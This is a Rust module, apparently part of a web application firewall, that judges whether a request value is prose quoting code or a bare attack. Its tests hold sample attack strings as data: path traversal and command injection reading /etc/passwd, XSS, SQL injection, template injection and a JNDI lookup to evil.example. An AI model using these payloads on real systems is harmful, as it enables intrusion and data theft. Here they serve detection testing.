//! Is a value prose? Whoever writes about code quotes it, and a rule that finds code anywhere in a
//! value cannot tell a quotation from an attack. What surrounds it can: sentences are made of
//! plain words, one after the other, and attacks hardly ever are.
//!
//! This says nothing of what a sentence means, and nothing of languages: a word is a token of
//! letters, whatever the letters are. Whoever wraps an attack in a sentence on purpose is not told
//! apart: what is found in prose is no proof, but evidence still. Whoever writes at length writes
//! about several things, and they are one subject: the text.

use std::borrow::Cow;

use crate::rule::Rule;
use crate::variable::Variable;

/// The tags of rules that find things wherever they stand begin so, and end with what people write
/// about there: `prose/page`, `prose/machine`, `prose/data`.
const TAG: &[u8] = b"prose/";
/// Rules that find how an attack gets out of its place end their tag so: what they find is a
/// quotation only where a text marks its code, and nothing outside the marks gets out of anything.
const CODE: &[u8] = b"code";
/// What they end with that find markup.
const PAGE: &[u8] = b"page";
/// What long texts are about.
pub(crate) const TEXT: &[u8] = b"text";

/// So many plain words make a value prose,
const WORDS: usize = 4;
/// if so many stand one after the other.
const WORDS_IN_A_ROW: usize = 3;
/// So many make it a text,
const TEXT_WORDS: usize = 10;
/// if so many stand one after the other.
const TEXT_WORDS_IN_A_ROW: usize = 5;
/// So many around what is marked as code make it a text about code.
const WORDS_ABOUT_CODE: usize = 5;
/// A token without blanks that has so many bytes beyond ASCII is several words of a script that
/// writes none.
const UNSPACED_BYTES: usize = 18;
/// Beyond this nobody looks for words: a text has them at its beginning.
const LOOKED_AT: usize = 4_096;
/// A listing has so many lines.
const LISTED_LINES: usize = 3;
/// How files of source and configuration begin.
const BEGINNINGS: [&[u8]; 47] = [
    b"# ",
    b"#!",
    b"#include",
    b"-- ",
    b"/*",
    b"// ",
    b"<!doctype",
    b"<?php",
    b"@",
    b"alter table",
    b"apiversion:",
    b"async ",
    b"begin;",
    b"class ",
    b"const ",
    b"create ",
    b"def ",
    b"export ",
    b"fn ",
    b"from ",
    b"func ",
    b"function ",
    b"impl ",
    b"import ",
    b"insert into",
    b"interface ",
    b"let ",
    b"module ",
    b"name:",
    b"namespace ",
    b"package ",
    b"private ",
    b"pub ",
    b"public ",
    b"require",
    b"select ",
    b"services:",
    b"set -",
    b"steps:",
    b"struct ",
    b"try {",
    b"type ",
    b"use ",
    b"using ",
    b"var ",
    b"version:",
    b"with ",
];

/// What code stands between in Markdown and in forums.
const FENCES: [[&[u8]; 2]; 3] = [[b"```", b"```"], [b"[code", b"[/code]"], [b"`", b"`"]];
/// Those of them that stand around more than a word.
const OF_BLOCKS: usize = 2;

/// Words of query languages: in what may be a query they make no sentence.
const OF_QUERIES: [&[u8]; 41] = [
    b"all",
    b"and",
    b"as",
    b"boolean",
    b"by",
    b"call",
    b"case",
    b"copy",
    b"declare",
    b"delete",
    b"else",
    b"end",
    b"exec",
    b"execute",
    b"expansion",
    b"from",
    b"group",
    b"having",
    b"in",
    b"insert",
    b"into",
    b"is",
    b"language",
    b"like",
    b"limit",
    b"mode",
    b"not",
    b"null",
    b"or",
    b"order",
    b"procedure",
    b"program",
    b"query",
    b"select",
    b"then",
    b"to",
    b"union",
    b"update",
    b"values",
    b"when",
    b"where",
];

/// What the rule may take a quotation for: pages, machines, data. It says so by its tag.
pub(crate) fn subject(rule: &Rule) -> Option<&[u8]> {
    let mut tags = rule.about.tags.iter().filter_map(|tag| tag.fixed());
    tags.find_map(|tag| tag.strip_prefix(TAG))
}

/// Is it what earlier links of a chain found?
pub(crate) const fn is_found_by_rules(variable: Variable) -> bool {
    matches!(variable, Variable::MatchedVar | Variable::MatchedVars)
}

/// How sure it is that a value quotes what was found in it.
#[derive(Clone, Copy, Debug, Eq, Ord, PartialEq, PartialOrd)]
pub(crate) enum Quotation {
    /// It is none.
    None,
    /// It stands in prose.
    Prose,
    /// It stands in a long text, or in a file of source.
    Text,
}

/// Is it a text, of a person to persons, that a variable holds? A document that came raw is none.
pub(crate) fn quotation(subject: &[u8], variable: Variable, value: &[u8]) -> Quotation {
    let is_text = match variable {
        Variable::Args | Variable::ArgsGet | Variable::ArgsPost | Variable::Xml => true,
        Variable::RequestBody => {
            !value.trim_ascii_start().first().is_some_and(|byte| b"<{[".contains(byte))
        }
        _ => false,
    };
    if !is_text {
        return Quotation::None;
    }
    let left_out: &[&[u8]] = if subject == b"data" { &OF_QUERIES } else { &[] };
    let value = value.get(..LOOKED_AT).unwrap_or(value);
    // About pages, what stands between the tags of one is no prose.
    let reading = match subject {
        PAGE => Reading::of(value, left_out),
        _ => Reading::of(&without_tags(value), left_out),
    };
    if subject == CODE { reading.of_marked_code() } else { reading.of_anything() }
}

/// What makes a value prose.
struct Reading {
    is_listing: bool,
    is_marked: bool,
    is_fenced: bool,
    /// What gets out of a place, if anything does, is marked as code.
    is_plain_outside: bool,
    words: usize,
    in_a_row: usize,
}

impl Reading {
    /// What is marked as code stands within a sentence, and so do the marks of lists.
    fn of(value: &[u8], left_out: &[&[u8]]) -> Self {
        let is_marked = value.iter().filter(|byte| **byte == b'`').take(2).count() == 2;
        let (mut all, mut row, mut longest, mut is_code) = (0, 0, 0, false);
        for token in value.split(u8::is_ascii_whitespace).filter(|token| !token.is_empty()) {
            let marks = token.iter().filter(|byte| **byte == b'`').count();
            let is_left_out = left_out.iter().any(|word| word.eq_ignore_ascii_case(token));
            if marks == 0 && !is_code && !is_left_out && !is_mark(token) {
                let words = words(token);
                all += words;
                row = if words == 0 { 0 } else { row + words };
                longest = longest.max(row);
            }
            is_code ^= marks % 2 == 1;
            if all >= TEXT_WORDS && longest >= TEXT_WORDS_IN_A_ROW {
                break;
            }
        }
        Self {
            is_listing: is_listing(value),
            is_marked,
            is_fenced: FENCES.iter().take(OF_BLOCKS).any(|fences| is_within(value, fences)),
            is_plain_outside: is_plain_outside(value),
            words: all,
            in_a_row: longest,
        }
    }

    /// Are there plain words enough in a row, or is it a file of source?
    fn of_anything(&self) -> Quotation {
        let enough = if self.is_marked { WORDS - 1 } else { WORDS };
        let is_long = self.words >= TEXT_WORDS && self.in_a_row >= TEXT_WORDS_IN_A_ROW;
        if is_long {
            Quotation::Text
        } else if self.is_listing
            || self.is_fenced
            || self.words >= enough && self.in_a_row >= WORDS_IN_A_ROW
        {
            Quotation::Prose
        } else {
            Quotation::None
        }
    }

    fn of_marked_code(&self) -> Quotation {
        let is_about_code =
            self.is_marked && self.words >= WORDS_ABOUT_CODE && self.in_a_row >= WORDS_IN_A_ROW;
        match self.is_plain_outside && (self.is_fenced || is_about_code) {
            true => Quotation::Text,
            false => Quotation::None,
        }
    }
}

/// Without what stands between marks of code: is there nothing that ends a text or a command? An
/// apostrophe between letters ends none, nor do the bars of a table.
fn is_plain_outside(value: &[u8]) -> bool {
    let mut before = b'\n';
    let mut is_row = false;
    let mut rest = value;
    while let Some((byte, after)) = rest.split_first() {
        if before == b'\n' {
            is_row = is_table_row(rest);
        }
        let fence = FENCES.iter().find(|[open, _]| begins_with(rest, open));
        rest = match byte {
            b'`' | b'[' if fence.is_some() => {
                let Some(behind) = fence.and_then(|fence| behind(rest, fence)) else {
                    return false;
                };
                behind
            }
            b'\''
                if before.is_ascii_alphabetic()
                    && after.first().is_some_and(u8::is_ascii_alphabetic) =>
            {
                after
            }
            b'|' if is_row => after,
            b'\'' | b'"' | b';' | b'|' | b'&' | b'$' | b'<' | b'>' | b'\\' | b'`' => return false,
            _ => after,
        };
        before = *byte;
    }
    true
}

/// A message that is written as a page: its tags are blanks, and those of code are what Markdown
/// marks it with.
fn without_tags(value: &[u8]) -> Cow<'_, [u8]> {
    let is_tag = |bytes: &[u8]| matches!(bytes, [b'<', b'a'..=b'z' | b'A'..=b'Z' | b'/']);
    if !value.windows(2).any(is_tag) {
        return Cow::Borrowed(value);
    }
    let mut text = Vec::with_capacity(value.len());
    let mut rest = value;
    while let Some(start) = rest.windows(2).position(is_tag) {
        let (before, from) = rest.split_at(start);
        let end = from.iter().position(|byte| *byte == b'>').map_or(from.len(), |end| end + 1);
        let (tag, after) = from.split_at(end);
        let name: Vec<u8> = tag.iter().filter(|byte| byte.is_ascii_alphabetic()).copied().collect();
        text.extend_from_slice(before);
        text.extend_from_slice(match &*name {
            [b'c', b'o', b'd', b'e', ..] => b"`",
            [b'p', b'r', b'e', ..] => b"```",
            _ => b" ",
        });
        rest = after;
    }
    text.extend_from_slice(rest);
    Cow::Owned(text)
}

/// Lines and rows of Markdown, and marks that stand for themselves.
fn is_mark(token: &[u8]) -> bool {
    token.iter().all(|byte| b"#*|-,.:?!()".contains(byte)) && token != b"--" && token != b"||"
}

/// Does a row of a table in Markdown stand here? It has a bar at either end, and one in between.
fn is_table_row(text: &[u8]) -> bool {
    let line = text.split(|byte| *byte == b'\n').next().unwrap_or_default().trim_ascii();
    matches!(line, [b'|', row @ .., b'|'] if row.contains(&b'|'))
}

/// Is there one of these, and behind it the other?
fn is_within(value: &[u8], fence: &[&[u8]; 2]) -> bool {
    let [open, _] = fence;
    let start = value.windows(open.len()).position(|bytes| bytes.eq_ignore_ascii_case(open));
    start.and_then(|start| behind(value.get(start..)?, fence)).is_some()
}

/// What stands behind a fence that a text begins with, if that ends.
fn behind<'v>(text: &'v [u8], [open, close]: &[&[u8]; 2]) -> Option<&'v [u8]> {
    let within = text.get(open.len()..)?;
    let end = within.windows(close.len()).position(|bytes| bytes.eq_ignore_ascii_case(close))?;
    within.get(end + close.len()..)
}

fn begins_with(text: &[u8], beginning: &[u8]) -> bool {
    text.get(..beginning.len()).is_some_and(|start| start.eq_ignore_ascii_case(beginning))
}

/// Does it begin as a file of source does, and go on for some lines?
fn is_listing(value: &[u8]) -> bool {
    let first = value.trim_ascii_start();
    let begins = BEGINNINGS.iter().any(|beginning| begins_with(first, beginning));
    let lines = value.split(|byte| *byte == b'\n').filter(|line| !line.trim_ascii().is_empty());
    begins && lines.take(LISTED_LINES).count() == LISTED_LINES
}

/// How many plain words a token is.
fn words(token: &[u8]) -> usize {
    let is_opening = |byte: &u8| b"([\"'*_".contains(byte);
    let is_closing = |byte: &u8| b")]\"'*_.,:;!?".contains(byte);
    // A word in quotation marks of its own is a string of a program as often as not.
    if token.len() > 1 && token.first() == token.last() && matches!(token, [b'\'' | b'"', ..]) {
        return 0;
    }
    let start = token.iter().take_while(|byte| is_opening(byte)).count();
    let end = token.len() - token.iter().rev().take_while(|byte| is_closing(byte)).count();
    let word = token.get(start..end).unwrap_or_default();
    let beyond_ascii = word.iter().filter(|byte| !byte.is_ascii()).count();
    let is_inside =
        |byte: &u8| byte.is_ascii_alphabetic() || !byte.is_ascii() || b"'-".contains(byte);
    let begins = word.first().is_some_and(|byte| byte.is_ascii_alphabetic() || !byte.is_ascii());
    let is_word = begins && word.iter().all(is_inside);
    match word.len() {
        _ if !is_word => 0,
        _ if beyond_ascii >= UNSPACED_BYTES => WORDS,
        1 => usize::from(matches!(word, b"a" | b"A" | b"I" | b"i")),
        _ => 1,
    }
}

#[cfg(test)]
mod tests {
    use super::{OF_QUERIES, Quotation, Reading};
    use crate::variable::Variable;

    fn is_prose(text: &[u8], left_out: &[&[u8]]) -> bool {
        Reading::of(text, left_out).of_anything() > Quotation::None
    }

    #[test]
    fn sentences_that_quote_code_are_prose() {
        for text in [
            "Path traversal means that `GET /x?file=../../etc/passwd` leaves the folder.",
            "Cross-site scripting: suppose a guest book shows <script>alert('XSS')</script>",
            "Außerdem läuft `id` jetzt überall ohne Fehler",
            "Почему `whoami` показывает не то имя, что раньше?",
            "这个页面会显示一个警告框吗 <script>alert(1)</script>",
            "With SpEL: `#{systemProperties['x']}`; with EL: `${param.id}`.",
            "```\ncat /etc/passwd; id\n```",
            "import os\nprint(os.popen('ls').read())\neval(x)\nfoo()\n",
            "Traceback (most recent call last):\n  File \"/usr/lib/x.py\", line 3",
        ] {
            assert!(is_prose(text.as_bytes(), &[]), "{text}");
        }
    }

    #[test]
    fn what_is_long_is_about_one_thing() {
        let text = |text: &str| Reading::of(text.as_bytes(), &[]).of_anything() == Quotation::Text;
        assert!(text("Explain what `SELECT 1` does, and why a <script> in it would be dangerous."));
        assert!(!text("<?php\n$x = new PDO($dsn);\n$x->query('SELECT 1');\n"));
        assert!(!text("and then I typed <script>alert(1)</script>"));
        let query = b"1 union select name, password from users where name like admin or null";
        assert!(Reading::of(query, &OF_QUERIES).of_anything() < Quotation::Text);
    }

    #[test]
    fn code_is_quoted_where_it_is_marked() {
        let code = |text: &str| Reading::of(text.as_bytes(), &[]).of_marked_code();
        let quoted = "Please run `apt update; cat /etc/os-release` and tell me what it says";
        assert_eq!(code(quoted), Quotation::Text);
        let fenced = "My friend's script fails:\n```\nx; id\n```\nDo you see why?";
        assert_eq!(code(fenced), Quotation::Text);
        assert_eq!(code("[CODE=bash]head -n 5; cat /var/log/x[/CODE]"), Quotation::Text);
        for attack in [
            "this sentence goes on for quite a while; cat /etc/passwd",
            "run `id` now",
            "' or 1=1 -- and that is all there is to say",
            "#!/bin/sh\n1\n2\n; cat /etc/passwd",
            "a:\nb\n' or 1=1 -- ",
            "```\nx\n``` ' union select password from users -- ",
            "[code]x[/code] ' or '1'='1",
            "all of this is about the thing `a` and then ' or '1'='1",
        ] {
            assert_eq!(code(attack), Quotation::None, "{attack}");
        }
    }

    #[test]
    fn tags_of_a_message_are_blanks() {
        let quotation = |text: &str| super::quotation(b"machine", Variable::Args, text.as_bytes());
        let message = "<p>Hi <at id=\"0\">Zo\u{eb}</at>, see <code>../build/web.config</code></p>";
        assert_eq!(quotation(message), Quotation::Prose);
        assert_eq!(quotation("<svg onload=alert(1)><script>x</script>"), Quotation::None);
        assert_eq!(quotation("<p><code>cat /etc/passwd</code></p>"), Quotation::None);
        assert_eq!(quotation("<pre>cat /etc/passwd</pre>"), Quotation::Prose);
    }

    #[test]
    fn words_of_queries_make_no_sentence_about_data() {
        let attack = b"1' in boolean mode) and not 1=benchmark(5000000,md5(1)) or null like";
        assert!(!is_prose(attack, &OF_QUERIES));
        assert!(is_prose(b"the select committee wants to sleep(5) hours more", &OF_QUERIES));
    }

    #[test]
    fn attacks_and_code_alone_are_not() {
        for text in [
            "",
            "<script>alert(1)</script>",
            "x; cat /etc/passwd",
            "${jndi:ldap://evil.example/a}",
            "<a href=javascript:alert(1)>click me now</a>",
            "| echo hello | sh",
            "{{ config.items() }} {% for x in y %}",
            "a b c d e f g",
            "`id`",
            "import os; os.system('id')",
            "{% import 'os' as os %}{{os.system('id')}}",
            "x; `sleep 5`; echo done",
        ] {
            assert!(!is_prose(text.as_bytes(), &[]), "{text}");
        }
    }
}
